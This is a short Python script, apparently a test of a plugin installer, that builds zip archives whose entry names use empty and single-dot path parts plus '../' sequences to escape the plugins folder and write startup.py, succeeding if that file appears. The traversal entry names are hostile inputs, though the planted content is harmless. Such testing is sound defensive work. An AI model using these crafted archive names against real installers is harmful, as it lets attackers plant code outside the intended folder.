"""Empty parts and single dots lead nowhere, but look like folders to who counts them."""

import json
import sys
import zipfile
from contextlib import suppress
from pathlib import Path

from installer import InstallError, install

shown = False
for name in ("assets//./../../../startup.py", "assets/./././../../../startup.py"):
    with zipfile.ZipFile("upload.zip", "w") as archive:
        archive.writestr("plugin.json", json.dumps({"name": "charts", "version": "1.0"}))
        archive.writestr("assets/logo.svg", "<svg/>")
        archive.writestr(name, "planted = True\n")
    with suppress(InstallError, ValueError, OSError):
        install("upload.zip", "plugins")
    shown = shown or Path("startup.py").exists()
sys.exit(0 if shown else 1)
